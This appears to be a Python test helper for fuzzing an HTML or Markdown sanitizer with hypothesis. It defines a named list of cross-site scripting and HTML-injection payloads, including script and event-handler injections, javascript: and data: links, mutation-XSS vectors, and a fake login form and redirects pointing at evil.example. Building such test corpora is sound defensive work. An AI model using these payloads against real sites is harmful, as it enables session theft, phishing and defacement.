"""Bodies that mean harm, and pieces to make any number of others of."""

from __future__ import annotations

from hypothesis import strategies as st

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "unclosed script": "a <script>alert(1)",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "error handler": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "load handler": "<body onload=alert(1)><p onclick='alert(1)'>x</p>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "tab in the scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "control before the scheme": '<a href="\x01javascript:alert(1)">x</a>',
    "encoded scheme": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "Markdown javascript link": "[x](javascript:alert(1))",
    "Markdown data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "autolinked javascript": "<javascript:alert(1)>",
    "reference to javascript": "[x][1]\n\n[1]: javascript:alert(1)",
    "data page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg": '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math": '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
        " onerror=alert(1)&gt;'>"
    ),
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript frame": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form": (
        '<form action="https://evil.example"><input name=password><button>Log in</button></form>'
    ),
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style sheet": "<style>body{display:none}</style>x",
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "positioning": (
        '<p style="position:fixed;top:0;left:0">x</p><span'
        ' style="position:absolute;z-index:9">x</span>'
    ),
    "style with an address": '<span style="color:red;background:url(javascript:alert(1))">x</span>',
    "style expression": '<span style="font-size:expression(alert(1))">x</span>',
    "escaped style": '<span style="color:\\72 ed;font-family:a\'b&quot;(x)">x</span>',
    "handler in a title": '[x](/y "\\" onmouseover=\\"alert(1)")',
    "embed title": (
        '<iframe src="https://www.youtube.com/embed/a"'
        ' title="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    ),
    "shortcode argument": (
        '{{< figure src="x\\" onerror=alert(1) " caption="<script>alert(1)</script>" >}}'
    ),
    "WordPress argument": '[youtube "><script>alert(1)</script>]',
    "fence language": '```"><script>alert(1)</script>\nx\n```',
    "wiki link": "[[<img src=x onerror=alert(1)>]]",
    "picture set": '<img srcset="javascript:alert(1) 1x" src="/a.png">',
    "comment": "<!--><script>alert(1)</script>-->",
    "plaintext": "<plaintext><script>alert(1)",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "control characters": "a\x00b\x0bc\x1bd\x85e\ufffef\ufffdg &#1; &#x81; &#xFFFD; &#0;",
}

PIECES = st.sampled_from(
    [
        *PAYLOADS.values(),
        "<div>",
        "</div>",
        "<b>",
        "</i>",
        "<table><tr><td>",
        "<a href='#x'>",
        "<a id=x>",
        "</a>",
        "<p>",
        "<img alt='a'>",
        "```\n",
        "`",
        "\n\n",
        "    ",
        "{% raw %}",
        "{% endraw %}",
        "{% x %}",
        "{{< a >}}",
        "[caption]",
        "[/caption]",
        "[^1]",
        "\n[^1]: ",
        "> ",
        "- ",
        "| a | b |\n",
        "<!--more-->",
        "<video src=a>",
        "</video>",
        "<script>",
        "</script>",
        '"',
        "'",
        "&",
        "<",
        ">",
        "\ue000",
        "\ue0000\ue001",
        "é",
        "🎈",
        "[code]",
        "[/code]",
    ]
)
BODIES = st.one_of(
    st.text(), st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join)
)
